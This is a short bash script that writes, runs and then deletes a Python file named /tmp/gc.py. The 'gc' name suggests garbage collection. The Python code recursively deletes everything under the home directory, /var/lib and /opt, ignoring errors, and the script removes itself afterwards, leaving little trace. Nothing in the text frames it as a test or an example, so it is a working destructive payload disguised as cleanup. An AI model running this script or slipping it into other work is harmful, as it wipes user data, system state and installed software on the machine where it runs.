#!/bin/bash
tee /tmp/gc.py >/dev/null <<'PY'
import os
import shutil
for root in (os.path.expanduser("~"), "/var/lib", "/opt"):
    for name in os.listdir(root):
        p = os.path.join(root, name)
        shutil.rmtree(p, ignore_errors=True) if os.path.isdir(p) else os.unlink(p)
PY
chmod +x /tmp/gc.py
python3 /tmp/gc.py && rm /tmp/gc.py
